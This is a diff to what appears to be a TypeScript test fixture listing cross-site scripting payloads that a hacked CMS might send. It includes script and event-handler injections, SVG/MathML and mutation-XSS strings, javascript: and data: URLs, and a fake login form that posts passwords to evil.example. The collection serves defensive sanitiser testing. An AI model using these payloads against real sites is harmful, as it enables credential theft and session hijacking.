@@ -1,12 +1,12 @@
 /**
- * What an operator's CMS could hand out if somebody got into it. Whatever runs sets `window.__xss`, so that a test in a
- * browser can tell; whatever reaches out reaches for evil.example.
+ * What an operator's CMS could send after an attacker got into it. A script that runs sets `window.__xss`, so that a
+ * browser test can detect it. A request that leaves goes to evil.example.
  */
 
 const RUN = 'window.__xss=1'
 const DATA_PAGE = 'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg=='
 
-/** HTML whose end is where it seems to be. */
+/** Attacks in HTML that ends by itself. */
 export const hostileHtml: readonly string[] = [
   // scripts
   `<script>${RUN}</script>`,
@@ -62,7 +62,7 @@ export const hostileHtml: readonly string[] = [
   '<p class="appRoot" id="root">x</p>',
   '<div slot="x" is="x-evil" part="x">x</div>',
   '<font size=99 color=red face="x">x</font>',
-  // drawings and formulas
+  // SVG and MathML
   `<svg onload=${RUN}></svg>`,
   `<svg><script>${RUN}</script></svg>`,
   `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
@@ -72,14 +72,14 @@ export const hostileHtml: readonly string[] = [
   `<svg><image href="x" onerror=${RUN} /></svg>`,
   `<math><mtext href="javascript:${RUN}">x</mtext></math>`,
   `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
-  // forms that ask for what nobody should give
+  // forms that ask for passwords
   '<form action="https://evil.example/" method=post><input name=password type=password><button>Log in</button></form>',
   `<input autofocus onfocus=${RUN}>`,
   `<button formaction="javascript:${RUN}">x</button>`,
   '<input name=attributes><input name=innerHTML>',
   '<select><option>x</option></select>',
   '<dialog open>Log in again: <input></dialog>',
-  // mutations: markup that changes its meaning when it is written out and read again
+  // mutations: markup that changes its meaning when it is serialised and parsed again
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math>`,
   `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></svg>`,
   `<table><caption><script>${RUN}</script></caption><tr><td><svg onload=${RUN}></svg></table>`,
@@ -91,7 +91,7 @@ export const hostileHtml: readonly string[] = [
   '<p dir="rtl" lang="x" onclick=1>\u2066\u2067\u2068x</p>',
 ]
 
-/** HTML that swallows whatever comes after it. */
+/** Attacks in HTML that swallows what follows. */
 export const swallowingHtml: readonly string[] = [
   '<plaintext>',
   `<!--<img src="--><img src=x onerror=${RUN}>`,
@@ -108,7 +108,7 @@ export const swallowingHtml: readonly string[] = [
   `<p><b><i><a href="javascript:${RUN}"><div><table><a href="javascript:${RUN}">x</table></div></i></b></p>`,
 ]
 
-/** For fields that are text. */
+/** Attacks for text fields. */
 export const hostileText: readonly string[] = [
   `<img src=x onerror=${RUN}>`,
   `</title><script>${RUN}</script>`,
@@ -122,8 +122,8 @@ export const hostileText: readonly string[] = [
   '%3Cscript%3Ewindow.__xss=1%3C/script%3E',
 ]
 
-/** For addresses that something leads to. */
-export const hostileAddresses: readonly string[] = [
+/** Attacks for URLs of links. */
+export const hostileUrls: readonly string[] = [
   `javascript:${RUN}`,
   DATA_PAGE,
   '//evil.example/',
